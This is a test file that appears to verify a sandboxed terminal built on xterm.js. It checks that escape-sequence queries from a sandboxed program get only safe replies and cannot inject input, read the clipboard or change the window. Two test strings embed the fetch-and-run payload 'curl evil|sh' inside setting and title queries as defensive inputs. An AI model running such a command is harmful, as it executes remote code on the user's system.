/** What a program in a sandbox can reach by escape sequences: its own terminal, and nothing else. */

import headless from "@xterm/headless";
import { afterEach, expect, test } from "vitest";
import { Drawing } from "../src/drawing.js";
import { Scene } from "./support.js";

const { Terminal } = headless;
const made: InstanceType<typeof Terminal>[] = [];
afterEach(() => {
  for (const each of made.splice(0)) {
    each.dispose();
  }
});

/** Draw live output with the real xterm.js; return it and what came back. */
async function show(output: string) {
  const terminal = new Terminal({ cols: 80, rows: 24, allowProposedApi: true });
  made.push(terminal);
  const scene = new Scene({ screen: terminal, drawing: new Drawing(terminal) });
  terminal.onData((data) => scene.connection.input(data));
  const socket = scene.connect("c0");
  socket.chunk("c1", output);
  await new Promise<void>((resolve) => terminal.write("", resolve));
  return { terminal, scene, input: socket.input };
}

test.each([
  ["device attributes", "\x1b[c", /^\x1b\[\?[0-9;]+c$/],
  ["secondary device attributes", "\x1b[>c", /^\x1b\[>[0-9;]+c$/],
  ["status", "\x1b[5n", /^\x1b\[0n$/],
  ["cursor position", "\x1b[3;4H\x1b[6n", /^\x1b\[3;4R$/],
  ["mode", "\x1b[?2004$p", /^\x1b\[\?2004;2\$y$/],
  ["setting", "\x1bP$qm\x1b\\", /^\x1bP1\$r[0-9;]*m\x1b\\$/],
])("%s: an answer without a word of the program's", async (_name, question, answer) => {
  expect((await show(question)).input).toMatch(answer);
});

test.each([
  ["a setting that is none", "\x1bP$qcurl evil|sh\x1b\\"],
  ["a title that is asked back", "\x1b]2;curl evil|sh\x07\x1b[21t\x1b[20t"],
])("%s comes back without its text", async (_name, output) => {
  const { input } = await show(output);

  expect(input).not.toContain("evil");
  expect(input).not.toMatch(/[\r\n]/);
});

test.each([
  ["the answerback", "\x05"],
  ["the version", "\x1b[>q"],
  ["tertiary attributes", "\x1b[=c"],
  ["terminfo", "\x1bP+q544e\x1b\\"],
  ["the window's state, place and size", "\x1b[11t\x1b[13t\x1b[14t\x1b[15t\x1b[18t\x1b[19t"],
  ["the clipboard", "\x1b]52;c;?\x07\x1b]52;p;?\x1b\\"],
  ["the keyboard's flags", "\x1b[?u"],
])("%s: no answer", async (_name, question) => {
  expect((await show(question)).input).toBe("");
});

test("window operations change nothing", async () => {
  const { terminal } = await show("\x1b[8;50;200t\x1b[3;0;0t\x1b[2t\x1b[9;1t\x1b[5t");

  expect([terminal.cols, terminal.rows]).toEqual([80, 24]);
});

test("notifications, progress, pictures and bells are passed over", async () => {
  const { terminal, input } = await show(
    "a\x1b]9;note\x07b\x1b]777;notify;t;b\x07c\x1b]9;4;1;50\x07d\x1bPq#0;2;0;0;0#0~~\x1b\\e" +
      `\x1b]1337;File=inline=1:${"A".repeat(5000)}\x07f${"\x07".repeat(100_000)}g`,
  );

  expect(terminal.buffer.active.getLine(0)?.translateToString(true)).toBe("abcdefg");
  expect(input).toBe("");
});
